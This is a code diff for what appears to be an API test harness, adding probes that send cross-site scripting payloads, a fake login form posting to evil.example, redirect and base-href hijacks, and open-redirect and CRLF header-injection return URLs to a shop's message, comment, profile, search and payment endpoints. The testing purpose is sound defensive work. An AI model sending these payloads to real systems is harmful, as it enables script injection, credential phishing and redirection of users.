@@ -173,7 +173,90 @@ function foreignHostOrOrigin(): Probe[] {
   ]);
 }
 
-export function categories(app: FastifyInstance, state: State, exported: Record<string, unknown>, token: string): Category[] {
+const HOSTILE_HTML = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<form action="https://evil.example/steal"><input name=password type=password><button>Log in</button></form>',
+  '<div style="position:fixed;inset:0;z-index:9999">covered</div><style>body{outline:9px solid red}</style>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<img src="https://evil.example/t.png">',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '"><script>alert(1)</script>',
+  "'';!--\"<XSS>=&{()}",
+  '\u0000<scr\u0000ipt>alert(1)</script>',
+  '<details open ontoggle=alert(1)>',
+];
+
+/** Hostile HTML in everything a customer or an applicant writes; the server stores text, the shop sanitizes it. */
+function hostileHtml(state: State, token: string): Probe[] {
+  const merchantId = state.merchants[0]?.id ?? 1;
+  const headers = { ...FORM_TYPE, authorization: token };
+  const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
+  return HOSTILE_HTML.flatMap((html) => [
+    {
+      method: 'POST',
+      path: '/rest/api/member/my/message/content/create',
+      headers,
+      body: form({ merchantId: String(merchantId), content: html }),
+    },
+    {
+      method: 'POST',
+      path: '/rest/api/member/product/comment/add',
+      headers: { ...JSON_TYPE, authorization: token },
+      body: JSON.stringify([
+        { guideScores: 5, transportationScores: 5, priceScores: 5, content: html, picUrls: '', orderId: 1, orderItemId: 1 },
+      ]),
+    },
+    { method: 'POST', path: '/rest/api/member/update', headers, body: form({ nickname: html }) },
+    { method: 'POST', path: '/rest/api/product/search', headers, body: form({ pageNo: '1', pageSize: '10', keyword: html }) },
+  ]);
+}
+
+const HOSTILE_RETURNS = [
+  '//evil.example/',
+  '/\\evil.example/',
+  'https://evil.example/orderInfo/1',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '/orderInfo/1\r\nSet-Cookie: a=b',
+  '/orderInfo/1?who=Zoë 東京',
+  'http://user:pass@127.0.0.1/',
+];
+
+/** pay/submit with return addresses elsewhere (open redirect), header injection and non-ASCII text. */
+function hostileReturnUrls(state: State, token: string, userId: number | undefined): Probe[] {
+  const unpaid = state.orders.find((o) => o.userId === userId && o.status === 0);
+  const headers = { ...FORM_TYPE, authorization: token };
+  return HOSTILE_RETURNS.flatMap((url) =>
+    ['quick', 'card'].map((payMode) => ({
+      method: 'POST',
+      path: '/rest/api/trade/order/pay/submit',
+      headers,
+      body: new URLSearchParams({
+        id: String(unpaid?.payOrderId ?? 1),
+        payMode,
+        returnUrl: url,
+        cancelUrl: url,
+        ...(payMode === 'card'
+          ? { cardNumber: '4000000000000259', cardExpiry: '2099-12', cardSecurityCode: '123', cardName: 'Probe' }
+          : {}),
+      }).toString(),
+    })),
+  );
+}
+
+export function categories(
+  app: FastifyInstance,
+  state: State,
+  exported: Record<string, unknown>,
+  token: string,
+  demoUserId: number | undefined,
+): Category[] {
   return [
     { name: 'malformed bodies per call', probes: malformed(state, token) },
     { name: 'deeply nested JSON', probes: deeplyNested(token, controlRoutes(app)) },
@@ -183,5 +266,7 @@ export function categories(app: FastifyInstance, state: State, exported: Record<
     { name: 'wrong content types', probes: wrongContentTypes(token) },
     { name: 'path tricks', probes: pathTricks() },
     { name: 'foreign Host / Origin (control plane)', probes: foreignHostOrOrigin() },
+    { name: 'hostile HTML in what customers write', probes: hostileHtml(state, token) },
+    { name: 'hostile wallet return URLs', probes: hostileReturnUrls(state, token, demoUserId) },
   ];
 }
